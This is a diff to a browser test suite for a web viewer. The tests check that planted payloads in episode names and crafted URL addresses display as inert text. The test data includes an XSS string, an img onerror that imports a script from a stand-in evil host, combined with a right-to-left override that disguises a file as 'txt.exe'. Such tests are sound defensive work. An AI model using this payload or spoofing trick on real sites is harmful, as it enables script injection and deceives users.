@@ -25,7 +25,7 @@ from ulterior.viewer.server import app
 DRAWN = Path(__file__).with_name("drawn.js").read_text(encoding="utf-8")
 FOLDER = f"<img src=x onerror=import(`%2f%2f{EVIL}`)>\u202etxt.exe"
 KEY = "img-src-x-onerror-import-2f-2fevil.example-txt.exe"
-AT_ADDRESSES = [text for text in PLANTED.values() if len(text) < 2_000][::3]
+AT_ADDRESSES = [text for text in PLANTED.values() if len(text) < 2_000][::2]
 SERVICES = ("mailbox", "chat", "ledger", "tickets", "approvals", "forms")
 
 
@@ -123,7 +123,11 @@ def escaped(word: str) -> str:
 
 
 def test_no_episode_draws_anything_but_words(place: Place) -> None:
-    assert place.faults(route for name in (*PLANTED, "longest") for route in everything_of(name)) == {}
+    served = place.opened.base.startswith("http")
+    routes = [[*everything_of(name)] for name in (*PLANTED, "longest")]
+    # a file draws with the same program: there, half the episodes with their marks, half with a world
+    chosen = [both if served else both[number // 2 % 2 :][:1] for number, both in enumerate(routes)]
+    assert place.faults(route for each in chosen for route in each) == {}
     title = place.opened.page.title()
     assert re.fullmatch(r"Episode [0-9a-f]{12}, <img src=x .*⟨U\+202E⟩txt\.exe · Ulterior", title)
 
@@ -153,7 +157,7 @@ def test_words_of_a_payload_can_be_read(place: Place) -> None:
         expect(page.get_by_role("group", name="private reasoning").first).to_contain_text(words)
 
 
-def crafted(payload: str) -> Iterator[str]:
+def crafted(payload: str) -> tuple[str, ...]:
     """Addresses that hold a payload wherever they can."""
     word = escaped(payload[:300])
 
@@ -161,16 +165,19 @@ def crafted(payload: str) -> Iterator[str]:
         return "&".join(f"{name}={word}" for name in names.split())
 
     cursor = "ev f proof diff pin file world service pane hide marks"
-    yield f"#/s/{KEY}/e/{episode_of('script')}?{all_of(cursor)}"
-    yield f"#/s/{KEY}?{all_of('q sort model outcome m fold factor')}"
-    yield f"#/s/{KEY}/e/{word}"
-    yield f"#/compare?a={word}&b={word}/{word}"
+    return (
+        f"#/s/{KEY}/e/{episode_of('script')}?{all_of(cursor)}",
+        f"#/s/{KEY}?{all_of('q sort model outcome m fold factor')}",
+        f"#/s/{KEY}/e/{word}",
+        f"#/compare?a={word}&b={word}/{word}",
+    )
 
 
 def test_addresses_may_say_anything(browser: Browser, file_study: str) -> None:
-    """From a file, where no server has a say in it."""
+    """From a file, where no server has a say in it; the kinds of addresses take the payloads in turn."""
+    routes = [crafted(payload)[number % 4] for number, payload in enumerate(AT_ADDRESSES)]
     with looked_at(browser, file_study) as place:
-        assert place.faults(route for payload in AT_ADDRESSES for route in crafted(payload)) == {}
+        assert place.faults(routes) == {}
 
 
 def test_a_line_of_ten_megabytes_leaves_the_page_usable(place: Place) -> None:
